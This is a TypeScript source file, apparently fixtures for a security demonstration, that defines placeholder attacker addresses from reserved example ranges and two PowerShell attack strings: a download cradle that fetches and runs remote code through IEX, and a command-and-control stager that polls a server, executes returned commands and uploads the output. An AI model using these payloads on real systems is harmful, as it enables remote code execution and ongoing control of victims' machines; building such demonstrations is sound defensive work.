// What the two attacks of the demonstration have in common: where the attacker sits and what he says to PowerShell.

/** Addresses and names from the ranges that are reserved for examples (RFC 5737, RFC 2606). */
export const COMMAND_AND_CONTROL = { ip: '203.0.113.66', port: 443, name: 'cdn-sync.example' } as const;
export const DROP_SITE = { ip: '203.0.113.90', port: 443, name: 'files.share-box.example' } as const;
export const SSH_ATTACKER = '198.51.100.23';
export const LINUX_CONTROLLER = { ip: '198.51.100.77', port: 8443 } as const;

/** A command as `powershell -enc` takes it: base64 of UTF-16LE. */
export const encoded = (script: string): string => Buffer.from(script, 'utf16le').toString('base64');

export const DOWNLOAD_CRADLE =
  `$u='https://${COMMAND_AND_CONTROL.name}/jquery.min.js';$w=New-Object Net.WebClient;$w.Headers.Add('User-Agent','Mozilla/5.0');` +
  `IEX($w.DownloadString($u))`;

export const STAGER =
  `[Net.ServicePointManager]::SecurityProtocol='Tls12';while($true){try{$t=(New-Object Net.WebClient).DownloadString('https://${COMMAND_AND_CONTROL.name}/poll?id='+$env:COMPUTERNAME);` +
  `if($t){$r=iex $t 2>&1|Out-String;(New-Object Net.WebClient).UploadString('https://${COMMAND_AND_CONTROL.name}/result',$r)}}catch{};Start-Sleep -Seconds 60}`;
